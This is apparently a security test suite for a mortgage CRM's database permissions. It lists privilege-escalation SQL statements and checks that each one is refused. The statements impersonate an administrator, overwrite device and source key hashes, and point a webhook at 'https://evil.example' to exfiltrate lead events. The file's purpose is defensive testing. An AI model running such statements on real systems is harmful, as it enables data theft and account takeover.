import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { newId } from '#base/id.ts'
import { hashToken } from '#kernel/bearers.ts'
import { createWebhook } from '#modules/automation/contract.ts'
import { agreed } from './agreed.ts'
import { type Hostile, openHostile } from './hostile.ts'
import { outsideTheLaw } from './leads.ts'
import type { World } from './world.ts'

/** Where records and news of them go, for whoever sends SQL in an officer's name: to nobody by their word alone. */
let w: World
let at: Hostile
let hidden: { contact: string; lead: string }
let mine: string
let operation: string
const unowned = newId()
beforeAll(async () => {
  at = await openHostile()
  w = at.w
  const { tenant, leo, tom, ann } = w.firm
  const leads = await w.superuser<{ id: string; contact: string; owner: string }[]>`
    select id, contact_id as contact, owner_id as owner from crm.lead where tenant_id = ${tenant}`
  const [own, toms] = [leo, tom].map(who => leads.find(lead => lead.owner === who.id)!)
  hidden = { contact: toms!.contact, lead: toms!.id }
  mine = own!.id
  await w.superuser`insert into crm.contact (tenant_id, id, full_name, created_at, updated_at) values (${tenant}, ${unowned}, 'Nobodys', now(), now())`
  operation = newId()
  for (const [id, who] of [
    [operation, ann],
    [newId(), leo],
  ] as const)
    await w.superuser`insert into kernel.operation (tenant_id, id, action, title, state, asked_by, asked_kind, created_at, moved_at)
      values (${tenant}, ${id}, 'crm.exportLeads', 'Export', 'queued', ${who.id}, 'member', now(), now())`
  await w.superuser`insert into crm.lead_export (tenant_id, operation_id, owner_id, created_at, expires_at) values (${tenant}, ${operation}, ${ann.id}, now(), now() + interval '1 day')`
  await w.superuser`insert into identity.device (tenant_id, id, member_id, token_hash, made_at, seen_at, expires_at)
    values (${tenant}, ${newId()}, ${ann.id}, ${hashToken('ccd_ann')}, now(), now(), now() + interval '1 day')`
})
afterAll(() => at.close())

const tenant = () => `'${w.firm.tenant}'`
const leo = () => `'${w.firm.leo.id}'`
const ann = () => `'${w.firm.ann.id}'`
const work = (by: string, kind: string) => `
  insert into kernel.operation (tenant_id, id, action, title, state, plan, asked_by, asked_kind, created_at, moved_at)
  values (${tenant()}, '${newId()}', 'crm.assignLeads', 'Mine', 'queued', '{"scope":{"all":true}}', ${by}, '${kind}', now(), now() - interval '1 day')`
const firstStage = `crm.stage where position = 0 and pipeline_id = (select id from crm.pipeline where kind = 'purchase' and position = 0)`
const record = (table: 'lead' | 'loan', contact: string) =>
  table === 'lead'
    ? `insert into crm.lead (tenant_id, id, contact_id, owner_id, full_name, stage_since, received_at, created_at, updated_at, property_state)
        values (${tenant()}, '${newId()}', '${contact}', ${leo()}, 'Mine', now(), now(), now(), now(), 'SC')`
    : `insert into crm.loan (tenant_id, id, contact_id, owner_id, full_name, purpose, pipeline_id, stage_id, stage_since, created_at, updated_at, property_state)
        select ${tenant()}, '${newId()}', '${contact}', ${leo()}, 'Mine', 'purchase', pipeline_id, id, now(), now(), now(), 'SC' from ${firstStage}`
/** A lead or loan of somebody out of sight that goes to their own officer, and what else is said of it. */
const hung = (table: 'lead' | 'loan', said: Record<string, string> = {}, contact = hidden.contact) => {
  const row = { owner_id: `'${w.firm.tom.id}'`, property_state: `'FL'`, ...said }
  const into = `crm.${table} (tenant_id, id, contact_id, full_name, stage_since, created_at, updated_at, ${Object.keys(row)}`
  const values = `${tenant()}, '${newId()}', '${contact}', 'Theirs', now(), kernel.moment(), now(), ${Object.values(row)}`
  return table === 'lead'
    ? `insert into ${into}, received_at) values (${values}, now())`
    : `insert into ${into}, purpose, pipeline_id, stage_id) select ${values}, 'purchase', pipeline_id, id from ${firstStage}`
}
const offer = (column: string, to: string, lead = hidden.lead) =>
  `insert into lead_hunter.assignment (tenant_id, id, lead_id, kind, at, ${column}) values (${tenant()}, '${newId()}', '${lead}', 'offered', now(), ${to})`

describe('nothing is sent elsewhere, by whatever statement:', () => {
  const attempts: [string, () => string][] = [
    ['work in the administrator’s name', () => work(ann(), 'member')],
    ['work in the product’s name', () => work('null', 'system')],
    ['work of one’s own, made the administrator’s', () => `update kernel.operation set asked_by = ${ann()}`],
    ['another plan', () => `update kernel.operation set plan = '{"scope":{"all":true}}'`],
    [
      'more records for the administrator’s work',
      () => `insert into crm.bulk_target (tenant_id, operation_id, lead_id) values (${tenant()}, '${operation}', '${mine}')`,
    ],
    ['a colleague’s export', () => `update crm.lead_export set owner_id = ${leo()}`],
    [
      'a webhook',
      () => `insert into automation.webhook (tenant_id, id, name, url, events, secret, created_at)
        values (${tenant()}, '${newId()}', 'Mine', 'https://evil.example', '{lead.received}', '\\x${'01'.repeat(29)}', now())`,
    ],
    ['a webhook turned', () => `update automation.webhook set url = 'https://evil.example'`],
    [
      'the rules of routing',
      () =>
        `insert into lead_hunter.routing_set (tenant_id, id, version, state, doc, made_at) values (${tenant()}, '${newId()}', 99, 'published', '{}', now())`,
    ],
    [
      'who may claim from a pool',
      () => `insert into lead_hunter.pool (tenant_id, id, name, created_at) values (${tenant()}, '${newId()}', 'Mine', now())`,
    ],
    [
      'a colleague, away from their leads',
      () => `update identity.member set away_until = '2100-01-01' where id = '${w.firm.tom.id}'`,
    ],
    ['how many leads one is given', () => `update lead_hunter.officer set caps = '{}'`],
    [
      'a colleague’s records, as their heir',
      () =>
        `insert into identity.departure (tenant_id, id, member_id, heir, heir_id, left_at) values (${tenant()}, '${newId()}', '${w.firm.tom.id}', 'person', ${leo()}, now())`,
    ],
    ['stages on which the licence law hangs', () => `update crm.stage set outcome = 'lost'`],
    ['a source’s key', () => `update lead_hunter.source set key_hash = '\\x${hashToken('mine').toString('hex')}'`],
    ['a form', () => 'update lead_hunter.form set version = version'],
    [
      'a browser of the administrator',
      () => `insert into identity.device (tenant_id, id, member_id, token_hash, made_at, seen_at, expires_at)
        values (${tenant()}, '${newId()}', ${ann()}, '\\x01', now(), now(), now() + interval '1 day')`,
    ],
    [
      'the administrator’s browser, one’s own',
      () => `update identity.device set token_hash = '\\x01' where member_id = ${ann()}`,
    ],
    [
      'somebody of the directory',
      () =>
        `insert into identity.provisioned_user (tenant_id, member_id, connection_id, changed_at) values (${tenant()}, ${ann()}, '${newId()}', now())`,
    ],
    ['a lead of somebody out of sight', () => record('lead', hidden.contact)],
    ['a loan of somebody out of sight', () => record('loan', hidden.contact)],
    ['a lead for a colleague’s person, with oneself beside', () => hung('lead', { rep_id: leo() })],
    ['a lead for a colleague’s person, in one’s own hands', () => hung('lead', { held_by: leo() })],
    ['a loan for a colleague’s person, with oneself at work', () => hung('loan', { processor_id: leo() })],
    ['a lead for somebody nobody has, with oneself beside', () => hung('lead', { owner_id: 'null', rep_id: leo() }, unowned)],
    [
      'one’s own lead, made a colleague’s person’s with oneself beside',
      () =>
        `update crm.lead set contact_id = '${hidden.contact}', owner_id = '${w.firm.tom.id}', rep_id = ${leo()}, property_state = 'FL' where id = '${mine}'`,
    ],
    ['an offer to oneself of a lead out of sight', () => offer(`offered_to`, `array[${leo()}]::uuid[]`)],
    ['a lead out of sight, as given to oneself', () => offer(`to_id`, leo())],
    ['an offer, made to oneself', () => `update lead_hunter.assignment set offered_to = array[${leo()}]::uuid[]`],
    ['one’s own lead, about somebody out of sight', () => `update crm.lead set contact_id = '${hidden.contact}'`],
  ]
  beforeAll(async () => {
    await agreed(w, w.firm.ann, createWebhook, { name: 'Ours', url: 'http://127.0.0.1:9/ours', events: ['lead.received'] })
    await w.superuser`insert into lead_hunter.officer (tenant_id, member_id, caps) values (${w.firm.tenant}, ${w.firm.leo.id}, '{"perDay":1}')
      on conflict (tenant_id, member_id) do update set caps = excluded.caps`
  })
  test.each(attempts)('%s', async (_, statement) => {
    expect(await at.refused(statement())).toBe('42501')
  })

  test('a source’s key is replaced by whoever makes keys of sources, and not by whoever else changes the source', async () => {
    const { max } = w.firm
    const asMax = at.contextOf(at.pid, {}, max)
    const key = `update lead_hunter.source set key_hash = '\\x01' where id = (select id from lead_hunter.source order by name limit 1)`
    expect(await at.refused(key, asMax)).toBe('answered')
    await w.superuser`insert into identity.override (tenant_id, member_id, permission, level, reason, until, made_by, made_at)
      values (${w.firm.tenant}, ${max.id}, 'source.key', 'none', 'For a week', now() + interval '7 days', ${w.firm.ann.id}, now())`
    expect(await at.refused(key, asMax)).toBe('42501')
    expect(await at.refused('update lead_hunter.source set version = version + 1', asMax)).toBe('answered')
    await w.superuser`delete from identity.override where member_id = ${max.id}`
  })

  test('a browser is known by its secret, not by what is kept of it', async () => {
    const kept = hashToken('ccd_ann').toString('hex')
    await at.inside(`select identity.renew_device('${kept}', '\\x01')`)
    expect(await w.superuser`select 1 from identity.device where token_hash = ${hashToken('ccd_ann')}`).toHaveLength(1)
  })

  test('and nobody of a partner is shown the person by sending them in to their own officer', async () => {
    const partner = newId()
    await w.superuser`insert into identity.partner_company (tenant_id, id, name, created_at) values (${w.firm.tenant}, ${partner}, 'Realty', now())`
    const pat = await w.hire(w.firm, 'pat', 'partner_owner')
    const own = { owners: [pat.id], branches: [], partners: [partner] }
    const context = at.contextOf(at.pid, own, pat)
    for (const [field, said] of [
      ['partner_id', partner],
      ['rep_id', pat.id],
    ] as const)
      expect(await at.refused(hung('lead', { [field]: `'${said}'` }), context)).toBe('42501')
  })

  test('nor what goes to the person’s own officer, or to nobody, unless the house recognised the person', async () => {
    for (const statement of [hung('lead'), hung('loan'), hung('lead', { owner_id: 'null' }, unowned)])
      expect(await at.refused(statement), statement).toBe('42501')
  })

  test('nor are colleagues’ addresses, notes or borrowers found by words of one’s own', async () => {
    const [tom] = await w.superuser<{ identifier: string }[]>`
      select id as identifier from crm.identifier where contact_id = ${hidden.contact} and kind = 1`
    const [note, loan, borrower] = [newId(), newId(), newId()]
    await w.superuser`insert into crm.note (tenant_id, id, contact_id, lead_id, sealed, author_id, created_at)
      values (${w.firm.tenant}, ${note}, ${hidden.contact}, ${hidden.lead}, ${Buffer.alloc(29, 1)}, ${w.firm.tom.id}, now())`
    await outsideTheLaw(
      w,
      () => w.superuser`insert into crm.loan (tenant_id, id, contact_id, owner_id, full_name, purpose, pipeline_id, stage_id, stage_since, created_at, updated_at, property_state)
        select ${w.firm.tenant}, ${loan}, ${hidden.contact}, ${w.firm.tom.id}, 'Toms', 'purchase', pipeline_id, id, now(), now(), now(), 'FL'
        from crm.stage where tenant_id = ${w.firm.tenant} and position = 0 limit 1`,
    )
    await w.superuser`insert into crm.borrower (tenant_id, id, loan_id, contact_id, full_name, position, role)
      values (${w.firm.tenant}, ${borrower}, ${loan}, ${hidden.contact}, 'Toms', 1, 'borrower')`
    const asTom = at.contextOf(at.pid, { owners: [w.firm.tom.id] }, w.firm.tom)
    const token = `'\\x00112233445566778899aabbccddeeff'`
    for (const [kind, row, table] of [
      ['email-start', tom!.identifier, 'email_start'],
      ['note-words', note, 'note_word'],
      ['ssn', borrower, 'ssn_mark'],
    ] as const) {
      // Counted by the database itself: what was put in is out of the asker's sight.
      const put = `select crm.keep_marks('${kind}', array['${row}']::uuid[], array[1], array[${token}::bytea]);
        select pg_stat_get_xact_tuples_inserted('crm.${table}'::regclass)::int as n`
      const added = async (context: typeof asTom) => ((await at.inside(put, context)).rows.flat().at(-1) as { n: number }).n
      expect(await added(at.own), kind).toBe(0)
      expect(await added(asTom), kind).toBe(1)
    }
  })

  test('leads are offered to others', async () => {
    for (const statement of [offer('to_id', `'${w.firm.tom.id}'`), offer('to_id', leo(), mine)])
      expect(await at.refused(statement), statement).toBe('answered')
  })

  test('save by whoever may, for whom they see, and in one’s own name', async () => {
    const asAnn = at.contextOf(at.pid, { all: true }, w.firm.ann)
    for (const [statement, context] of [
      [`update automation.webhook set name = 'Theirs'`, asAnn],
      [`update lead_hunter.officer set caps = '{}'`, asAnn],
      [work(ann(), 'member'), asAnn],
      [work(leo(), 'member'), at.own],
      [`update identity.member set away_until = '2100-01-01' where id = ${leo()}`, at.own],
      [record('lead', hidden.contact), asAnn],
      [record('loan', hidden.contact), asAnn],
    ] as const)
      expect((await at.inside(statement, context)).count, statement).toBeGreaterThan(0)
    const own = (await w.superuser`select contact_id as id from crm.lead where id = ${mine}`)[0]!.id
    for (const table of ['lead', 'loan'] as const) expect((await at.inside(record(table, own))).count, table).toBe(1)
    const made = newId()
    const person = `insert into crm.contact (tenant_id, id, full_name, created_at, updated_at) values (${tenant()}, '${made}', 'New', kernel.moment(), now())`
    expect(await at.refused(`${person}; ${record('lead', made)}`)).toBe('answered')
  })
})

describe('one’s own client', () => {
  test('shows what fields were and became with the record, within the limits of whoever reads it', async () => {
    const { tenant, leo, tom, ann } = w.firm
    const about = await w.superuser<
      { id: string; owner_id: string }[]
    >`select id, owner_id from crm.lead where tenant_id = ${tenant}`
    const [mine, toms] = [leo, tom].map(who => about.find(lead => lead.owner_id === who.id)!.id)
    const [, kept] = [
      await w.superuser`delete from kernel.change where tenant_id = ${tenant}`,
      (
        [
          ['lead', mine],
          ['lead', toms],
          ['member', ann.id],
          ['member', leo.id],
          ['workgroup', newId()],
        ] as const
      ).map(
        ([
          kind,
          id,
        ]) => w.superuser`insert into kernel.change (tenant_id, event_id, n, record_kind, record_id, field, class, after)
          values (${tenant}, ${newId()}, 0, ${kind}, ${id!}, 'field', 'internal', '"x"')`,
      ),
    ]
    await Promise.all(kept)
    const told = async (scope: Parameters<Hostile['contextOf']>[1]) =>
      (await at.inside('select record_id as id from kernel.change', at.contextOf(at.pid, scope))).rows.map(row => row.id).sort()
    const whole = { workgroups: 'all', campaigns: 'all', places: 'all' } as const
    const south = { ...whole, places: { states: ['SC'], counties: [], zips: [] } }
    expect(await told({})).toEqual([mine, leo.id].sort())
    expect(await told({ all: true, limits: south })).toEqual([mine, leo.id].sort())
    expect(await told({ all: true, limits: { ...whole, campaigns: [newId()] } })).toEqual([leo.id])
    expect(await told({ all: true })).toHaveLength(5)
  })

  test('leaves no lead with whoever has no license for it, whatever becomes of the context before the commit', async () => {
    const clear = `set_config('app.ctx', '', true)`
    const moved = `update crm.lead set property_state = 'CA'`
    const copy = (
      state: string,
    ) => `insert into crm.lead (tenant_id, id, contact_id, owner_id, full_name, status, stage_since, received_at, created_at, updated_at, property_state)
      select tenant_id, '${newId()}', contact_id, owner_id, full_name, status, now(), now(), now(), now(), '${state}' from crm.lead`
    for (const statement of [
      `${moved}; set constraints all immediate`,
      `${moved}; select ${clear}; set constraints all immediate`,
      `${copy('CA')}`,
      `${copy('CA')} returning ${clear}`,
    ])
      expect(await at.refused(statement), statement).toBe('CC451')
    expect(await at.refused(`update crm.lead set property_state = 'SC'; set constraints all immediate`)).toBe('answered')
    expect(await at.refused(copy('SC'))).toBe('answered')
  })
})
